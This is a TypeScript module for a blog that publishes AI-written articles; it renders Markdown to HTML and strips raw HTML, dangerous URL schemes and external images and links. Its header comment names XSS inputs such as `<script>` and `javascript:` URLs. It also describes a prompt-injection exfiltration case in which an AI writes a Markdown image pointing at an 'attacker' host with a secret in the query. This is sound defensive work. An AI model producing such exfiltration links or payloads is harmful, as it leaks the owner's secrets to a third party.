/**
 * Safe Markdown → HTML (issue 5 items 3 and 4: the public blog's article pages and the Gestor del
 * Blog's preview). CommonMark through micromark with its safe defaults, which this module pins:
 * - no raw HTML passes: `<script>`, `<img onerror=…>` and every other tag in the Markdown come out
 *   as text (`&lt;script&gt;`), so no element or attribute is ever created from the input;
 * - no dangerous protocols: link targets keep only http(s), mailto, irc(s) and xmpp, image sources
 *   only http(s) (relative URLs stay); anything else (`javascript:`, `data:`, `vbscript:`, also
 *   hidden behind entities or control characters) becomes an empty attribute;
 * - every attribute value is HTML-escaped by micromark.
 * On top of that every link gets `rel="nofollow noopener"` (articles are written by an AI and their
 * links are not endorsements), and `headingOffset` can push headings down a level (the article page
 * has the title as its only `<h1>`).
 *
 * External images and links (issue 16 item 3, OWASP LLM05: an AI that obeyed an injected
 * instruction can write `![](https://attacker/?d=<secret>)`, which the browser loads as soon as
 * the owner opens the draft). Decision: only relative URLs (`/…`, `img/x.png`; not `//host`) and
 * URLs on one of `siteOrigins` (the brand's own site) stay. Any other image is dropped and only
 * its alt text remains (as text); any other link (http(s), mailto, …) is neutralized: its text
 * stays, as plain text, without an `<a>`. So nothing in rendered Markdown loads or points at a
 * third party; an address the text spells out can still be read and copied.
 *
 * Kept out of `shared/index.ts` on purpose: import it from `shared/markdown` so the login path and
 * the Lambdas that do not render Markdown never carry micromark.
 */
import { micromark } from 'micromark';

export interface RenderMarkdownOptions {
  /** Levels to add to every heading (`#` → `<h2>` with 1), capped at `<h6>`. Default 0. */
  headingOffset?: number;
  /** Origins (`https://blog.example.com`) whose images and links stay; relative URLs always do. Default none. */
  siteOrigins?: readonly string[];
}

/** Relationship of every link of rendered Markdown. */
export const MARKDOWN_LINK_REL = 'nofollow noopener';

// Raw HTML in the input is always escaped (`<` → `&lt;`), so any tag below is one micromark wrote.
const LINK_OPEN = /<a href="/g;
// micromark's image and link shapes: `<img src="…" alt="…"( title="…")? />`, `<a href="…"( title="…")?>…</a>` (links never nest).
const IMAGE = /<img src="([^"]*)" alt="([^"]*)"(?: title="[^"]*")? \/>/g;
const LINK = /<a href="([^"]*)"(?: title="[^"]*")?>([\s\S]*?)<\/a>/g;

/** Whether `href` (as micromark escaped it) is relative, or on one of `origins`. */
function isOwnUrl(href: string, origins: readonly string[]): boolean {
  // Browsers read a backslash as a slash: `/\\host` is protocol-relative too.
  const url = href.replace(/&amp;/g, '&').replace(/\\|%5c/gi, '/');
  if (url === '') return false;
  // No scheme and not protocol-relative: a path on the page's own site.
  if (!/^[a-z][a-z0-9+.-]*:/i.test(url) && !url.startsWith('//')) return true;
  try {
    const origin = new URL(url).origin;
    return origins.some((own) => own.replace(/\/+$/, '') === origin);
  } catch {
    return false;
  }
}

/** `html` without external images (alt text kept) and with external links as plain text. */
function withoutExternalUrls(html: string, origins: readonly string[]): string {
  return html
    .replace(IMAGE, (tag, src: string, alt: string) => (isOwnUrl(src, origins) ? tag : alt))
    .replace(LINK, (tag, href: string, text: string) => (isOwnUrl(href, origins) ? tag : text));
}
const HEADING_TAG = /<(\/?)h([1-6])>/g;

/**
 * The HTML of `markdown`: no raw HTML, no dangerous URLs, no external images or links (see the
 * module header), links with rel="nofollow noopener".
 */
export function renderMarkdown(markdown: string, options: RenderMarkdownOptions = {}): string {
  const html = withoutExternalUrls(micromark(markdown, { allowDangerousHtml: false, allowDangerousProtocol: false }), options.siteOrigins ?? []);
  const offset = Math.max(0, Math.trunc(options.headingOffset ?? 0));
  const withRel = html.replace(LINK_OPEN, `<a rel="${MARKDOWN_LINK_REL}" href="`);
  if (offset === 0) return withRel;
  return withRel.replace(HEADING_TAG, (_tag, slash: string, level: string) => `<${slash}h${Math.min(6, Number(level) + offset)}>`);
}
